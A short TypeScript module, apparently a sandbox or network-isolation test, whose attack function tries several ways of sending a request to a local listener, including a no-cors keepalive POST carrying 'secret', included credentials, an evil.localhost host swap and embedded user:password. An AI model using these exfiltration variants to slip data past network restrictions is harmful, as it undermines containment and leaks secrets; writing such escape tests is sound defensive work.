import { listener } from "./listener";

/** All the ways to fetch. */
export async function attack() {
  const url = `${listener}/d/fetch`;
  const attempts = [
    fetch(url),
    fetch(url, { mode: "no-cors" }),
    fetch(url, { method: "POST", body: "secret", mode: "no-cors", keepalive: true }),
    fetch(new Request(url, { credentials: "include" })),
    fetch(url.replace("127.0.0.1", "evil.localhost")),
    fetch(url.replace("127.0.0.1", "localhost")),
    fetch(url.replace("http://", "http://user:password@")),
  ];
  const settled = await Promise.allSettled(attempts);
  console.log(`arrived: ${settled.filter(({ status }) => status === "fulfilled").length}`);
}
